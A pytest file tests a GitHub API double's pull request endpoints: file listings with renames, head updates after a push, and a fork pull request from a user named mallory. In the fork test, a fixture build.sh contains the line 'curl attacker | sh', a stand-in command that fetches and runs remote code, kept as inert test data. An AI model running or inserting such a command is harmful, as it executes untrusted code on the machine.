"""The double's pull requests list files the way GitHub does: from the merge base, renames detected."""

from __future__ import annotations

from tests.github_double.double import GitHubDouble
from tests.github_double_tests.conftest import Caller


def files(caller: Caller, number: int) -> list[tuple[str, str, str | None]]:
    answer = caller.call("GET", f"/repos/acme/widgets/pulls/{number}/files").json()
    return [(f["filename"], f["status"], f.get("previous_filename")) for f in answer]


def test_a_pull_request_lists_added_modified_removed_and_renamed_files(
    github_double: GitHubDouble, caller: Caller, acme: int
) -> None:
    github_double.put_file("acme/widgets", "docs", "docs/guide.md", "# guide\n")
    github_double.delete_file("acme/widgets", "docs", ".github/workflows/ci.yml")
    github_double.put_file("acme/widgets", "docs", "ci-old.yml", "on: push\n")
    number = github_double.open_pull("acme/widgets", "docs").number
    assert files(caller, number) == [
        ("ci-old.yml", "renamed", ".github/workflows/ci.yml"),
        ("docs/guide.md", "added", None),
    ]


def test_a_push_to_the_pull_request_moves_its_head_and_its_files(
    github_double: GitHubDouble, caller: Caller, acme: int
) -> None:
    before = caller.call("GET", "/repos/acme/widgets/pulls/1").json()["head"]["sha"]
    after = github_double.push_to_pull("acme/widgets", 1, "README.md", "# changed\n")
    pull = caller.call("GET", "/repos/acme/widgets/pulls/1").json()
    assert (pull["head"]["sha"], pull["changed_files"]) == (after, 2)
    assert before != after
    assert files(caller, 1) == [
        (".github/workflows/ci.yml", "modified", None),
        ("README.md", "modified", None),
    ]


def test_a_fork_pull_request_names_the_fork_as_head_and_its_commits_are_readable_from_the_base(
    github_double: GitHubDouble, caller: Caller, acme: int
) -> None:
    github_double.add_repo("mallory/widgets", fork=True, installed=False, files={"README.md": "# widgets\n"})
    github_double.put_file("mallory/widgets", "evil", "build.sh", "curl attacker | sh\n")
    number = github_double.open_pull(
        "acme/widgets", "evil", head_repo="mallory/widgets", user="mallory"
    ).number
    pull = caller.call("GET", f"/repos/acme/widgets/pulls/{number}").json()
    assert pull["head"]["repo"]["full_name"] == "mallory/widgets"
    assert pull["base"]["repo"]["full_name"] == "acme/widgets"
    content = caller.call("GET", f"/repos/acme/widgets/contents/build.sh?ref={pull['head']['sha']}")
    assert content.status_code == 200
